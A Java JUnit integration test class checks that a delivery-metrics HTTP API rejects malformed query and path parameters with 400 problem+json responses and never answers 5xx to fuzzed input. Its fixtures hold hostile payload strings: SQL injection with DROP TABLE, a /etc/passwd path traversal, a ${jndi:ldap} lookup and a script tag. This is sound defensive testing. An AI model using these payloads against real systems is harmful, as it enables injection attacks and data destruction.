package io.deliverymetrics.api;

import static io.deliverymetrics.api.TimeseriesITCase.timeseries;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.deliverymetrics.api.support.HttpResult;
import io.deliverymetrics.api.support.ObservedResponses;
import io.deliverymetrics.api.support.ObservedResponsesExtension;
import io.deliverymetrics.api.support.RouteTemplates;
import io.deliverymetrics.api.support.TestDeployment;
import io.deliverymetrics.infra.EmbeddedInfraExtension;
import io.deliverymetrics.infra.EmbeddedMariaDb;
import io.deliverymetrics.infra.UniqueNames;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Every parameter is validated; bad input is a 400 problem naming the parameter, never a 5xx. */
@ExtendWith({EmbeddedInfraExtension.class, ObservedResponsesExtension.class})
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ValidationITCase {

    private final TestDeployment api;
    private final String ws;
    private final String token;

    ValidationITCase(EmbeddedMariaDb db, UniqueNames names, ObservedResponses observed) {
        this.api = TestDeployment.start(db, names, observed, Map.of());
        this.ws = api.workspaceOnShard(0);
        this.token = api.token(ws);
    }

    @AfterAll
    void stop() {
        api.close();
    }

    static Stream<Arguments> badQueries() {
        return Stream.of(
                Arguments.of("metrics=successes,bogus", "metrics"),
                Arguments.of("metrics=", "metrics"),
                Arguments.of("start=yesterday", "start"),
                Arguments.of("start=2026-11-26T11:00:00", "start"),
                Arguments.of("start=0001-01-01T00:00:00Z", "start"),
                Arguments.of("start=2026-11-26T11:00:00Z&end=2026-11-26T10:00:00Z", "start"),
                Arguments.of("start=2026-11-26T11:00:00Z&end=2026-11-26T11:00:00Z", "start"),
                Arguments.of("start=2020-01-01T00:00:00Z&end=2026-11-26T00:00:00Z", "end"),
                Arguments.of("end=2030-01-01T00:00:00Z", "end"),
                Arguments.of("limit=0", "limit"),
                Arguments.of("limit=100000", "limit"),
                Arguments.of("limit=-1", "limit"),
                Arguments.of("limit=ten", "limit"),
                Arguments.of("source=" + encode("' OR 1=1 --"), "source"),
                Arguments.of(
                        "destination=" + encode("dst\"; DROP TABLE delivery_metrics_minute;"),
                        "destination"),
                Arguments.of("source=" + "a".repeat(65), "source"),
                Arguments.of("source=" + "a".repeat(600), "source"),
                Arguments.of("foo=bar", "foo"),
                Arguments.of("granularity=week", "granularity"),
                Arguments.of("group_by=workspace", "group_by"),
                Arguments.of("cursor=" + encode("%%%not-base64"), "cursor"),
                Arguments.of("cursor=abc", "cursor"),
                Arguments.of("start=2026-11-26T10:00:00Z&start=2026-11-26T11:00:00Z", "start"));
    }

    @ParameterizedTest(name = "{0} is rejected naming {1}")
    @MethodSource("badQueries")
    void shouldRejectAnInvalidParameterWithAProblemNamingIt(String query, String param) {
        HttpResult r = api.get(timeseries(ws) + "?" + query, token);

        assertProblem(r, 400);
        assertThat(r.json().get("type").asText())
                .isEqualTo("urn:problem-type:delivery-metrics:invalid-parameters");
        List<String> names = new ArrayList<>();
        r.json().get("invalid_params").forEach(p -> names.add(p.get("name").asText()));
        assertThat(names).contains(param);
        r.json()
                .get("invalid_params")
                .forEach(p -> assertThat(p.get("reason").asText()).isNotBlank());
        assertThat(r.json().get("detail").asText()).contains(param);
    }

    @Test
    void shouldReportEveryInvalidParameterAtOnce() {
        HttpResult r = api.get(timeseries(ws) + "?limit=0&granularity=week&bogus=1", token);

        assertProblem(r, 400);
        List<String> names = new ArrayList<>();
        r.json().get("invalid_params").forEach(p -> names.add(p.get("name").asText()));
        assertThat(names).containsExactlyInAnyOrder("limit", "granularity", "bogus");
    }

    @Test
    void shouldRejectAnInvalidWorkspaceOrPairIdInThePath() {
        HttpResult badWorkspace =
                api.get("/v1/workspaces/" + encode("ws'x") + "/delivery-metrics", token);
        HttpResult badSource =
                api.get(
                        "/v1/workspaces/"
                                + ws
                                + "/sources/"
                                + encode("src x")
                                + "/destinations/dst/delivery-metrics",
                        token);

        assertProblem(badWorkspace, 400);
        assertThat(badWorkspace.json().get("invalid_params").get(0).get("name").asText())
                .isEqualTo("workspace_id");
        assertProblem(badSource, 400);
        assertThat(badSource.json().get("invalid_params").get(0).get("name").asText())
                .isEqualTo("source_id");
    }

    @Test
    void shouldRejectAnInvalidWorkspaceIdOnEveryOperationThatNamesOne() {
        List<ApiServer.Route> workspaceRoutes =
                RouteTemplates.v1Routes(api.server()).stream()
                        .filter(route -> RouteTemplates.namesAWorkspace(route.path()))
                        .toList();

        Map<ApiServer.Route, HttpResult> answers =
                api.callEach(workspaceRoutes, "w".repeat(65), token);

        assertThat(answers).isNotEmpty();
        assertThat(answers)
                .allSatisfy(
                        (route, r) -> {
                            assertProblem(r, 400);
                            assertThat(r.json().get("invalid_params").get(0).get("name").asText())
                                    .as("%s", route)
                                    .isEqualTo("workspace_id");
                        });
    }

    @Test
    void shouldRejectParametersAnEndpointDoesNotTake() {
        HttpResult pair =
                api.get(
                        "/v1/workspaces/"
                                + ws
                                + "/sources/s/destinations/d/delivery-metrics?group_by=pair",
                        token);
        HttpResult errors =
                api.get("/v1/workspaces/" + ws + "/delivery-errors?metrics=successes", token);

        assertProblem(pair, 400);
        assertThat(pair.json().get("invalid_params").get(0).get("name").asText())
                .isEqualTo("group_by");
        assertProblem(errors, 400);
        assertThat(errors.json().get("invalid_params").get(0).get("name").asText())
                .isEqualTo("metrics");
    }

    @Test
    void shouldNameAParameterWithMalformedPercentEncoding() {
        String raw = api.rawGet(timeseries(ws) + "?start=%zz", token);

        assertThat(raw).startsWith("HTTP/1.1 400").contains("application/problem+json");
        assertThat(raw).contains("{\"name\":\"start\",\"reason\":\"has a malformed value");
    }

    @Test
    void shouldAnswerProblemJsonEvenWhenJettyRejectsTheRequestItself() {
        HttpResult nulInPath = api.get("/v1/workspaces/ws%00x/delivery-metrics", token);
        HttpResult hugeUri = api.get(timeseries(ws) + "?source=" + "a".repeat(20_000), token);
        HttpResult hugeHeader =
                api.send(
                        HttpRequest.newBuilder(api.base().resolve(timeseries(ws)))
                                .header("Authorization", "Bearer " + token)
                                .header("X-Padding", "a".repeat(20_000))
                                .build());

        assertThat(nulInPath.status()).isEqualTo(400);
        assertThat(nulInPath.contentType()).startsWith("application/problem+json");
        assertThat(nulInPath.json().get("status").asInt()).isEqualTo(400);
        assertThat(hugeUri.status()).isEqualTo(414);
        assertThat(hugeUri.contentType()).startsWith("application/problem+json");
        assertThat(hugeHeader.status()).isEqualTo(431);
        assertThat(hugeHeader.contentType()).startsWith("application/problem+json");
    }

    @Test
    void shouldRefuseARequestWithoutAHostHeaderWithA400ProblemBeforeRoutingOnEveryPath() {
        List<String> paths = new ArrayList<>();
        for (ApiServer.Route route : api.server().routes()) {
            paths.add(RouteTemplates.fill(route.path(), ws));
        }
        paths.add("/");
        Map<String, String> answers = new LinkedHashMap<>();
        for (String path : paths) {
            answers.put(
                    path,
                    api.rawExchange("GET " + path + " HTTP/1.1\r\nConnection: close\r\n\r\n"));
        }

        assertThat(answers)
                .allSatisfy(
                        (path, raw) ->
                                assertThat(raw)
                                        .as(path)
                                        .startsWith("HTTP/1.1 400")
                                        .contains("application/problem+json")
                                        .contains("\"status\":400"));
    }

    @Test
    void shouldAnswerUnknownPathsWithA404Problem() {
        HttpResult r = api.get("/v1/nothing-here", token);

        assertProblem(r, 404);
    }

    @Test
    void shouldNeverAnswer5xxToFuzzedParameters() {
        Random rnd = new Random(20261126);
        String[] endpoints = {
            timeseries(ws),
            timeseries(ws) + "/summary",
            "/v1/workspaces/" + ws + "/delivery-errors",
            "/v1/workspaces/" + ws + "/sources/src_a/destinations/dst_b/delivery-metrics"
        };
        String[] names = {
            "start", "end", "source", "destination", "granularity", "metrics", "group_by", "limit",
            "cursor", "workspace", "START", "", "metrics[]", "a\u0000b", "%", "s\u00e9lect"
        };
        int[] statuses = new int[600];
        for (int i = 0; i < 300; i++) {
            StringBuilder q = new StringBuilder();
            int params = rnd.nextInt(5);
            for (int p = 0; p < params; p++) {
                String name = names[rnd.nextInt(names.length)];
                q.append(p == 0 ? "?" : "&")
                        .append(encode(name))
                        .append('=')
                        .append(encode(fuzzValue(rnd, name)));
            }
            String endpoint = endpoints[rnd.nextInt(endpoints.length)];
            HttpResult r = api.get(endpoint + q, token);
            statuses[i] = r.status();
            assertThat(r.status()).as("%s%s -> %s", endpoint, q, r).isIn(200, 400, 422);
            if (r.status() != 200) {
                assertThat(r.contentType()).startsWith("application/problem+json");
                assertThat(r.json().get("status").asInt()).isEqualTo(r.status());
            }
            if (r.status() == 400) {
                assertThat(r.json().get("invalid_params")).isNotEmpty();
            }
        }
        // The fuzzer must reach both outcomes, or it is not exercising anything.
        assertThat(statuses).contains(200, 400);
    }

    private static String fuzzValue(Random rnd, String name) {
        String[] valid = {
            "2026-11-26T11:00:00Z",
            "2026-11-26T10:59:59.999Z",
            "2026-11-20T00:00:00+00:00",
            "minute",
            "hour",
            "day",
            "auto",
            "pair",
            "source",
            "destination",
            "successes,latency_p99",
            "src_a",
            "dst_b",
            "1",
            "50",
            "1000"
        };
        String[] hostile = {
            "' OR '1'='1",
            "1; DROP TABLE api_tokens",
            "../../etc/passwd",
            "${jndi:ldap://x}",
            "9999-12-31T23:59:59Z",
            "+999999999-12-31T23:59:59Z",
            "-1",
            "2147483648",
            "99999999999999999999",
            "NaN",
            "\u0000",
            "\uD83D\uDE00",
            "%00",
            "<script>",
            "null",
            "",
            ",",
            "successes,,",
            "2026-02-30T00:00:00Z",
            "2026-11-26T25:00:00Z",
            "a".repeat(70),
            "x".repeat(2000)
        };
        return switch (rnd.nextInt(4)) {
            case 0 -> valid[rnd.nextInt(valid.length)];
            case 1 -> hostile[rnd.nextInt(hostile.length)];
            case 2 -> randomString(rnd);
            default -> name.equals("cursor") ? randomString(rnd) : valid[rnd.nextInt(valid.length)];
        };
    }

    private static String randomString(Random rnd) {
        int n = rnd.nextInt(80);
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < n; i++) {
            sb.append((char) (rnd.nextBoolean() ? 0x20 + rnd.nextInt(95) : rnd.nextInt(0x3000)));
        }
        return sb.toString();
    }

    private static void assertProblem(HttpResult r, int status) {
        assertThat(r.status()).as(r.toString()).isEqualTo(status);
        assertThat(r.contentType()).startsWith("application/problem+json");
        JsonNode p = r.json();
        assertThat(p.get("type").isTextual()).isTrue();
        assertThat(p.get("title").isTextual()).isTrue();
        assertThat(p.get("status").asInt()).isEqualTo(status);
        assertThat(p.get("detail").isTextual()).isTrue();
        assertThat(p.get("instance").asText()).startsWith("/");
    }

    private static String encode(String s) {
        return URLEncoder.encode(s, StandardCharsets.UTF_8);
    }
}
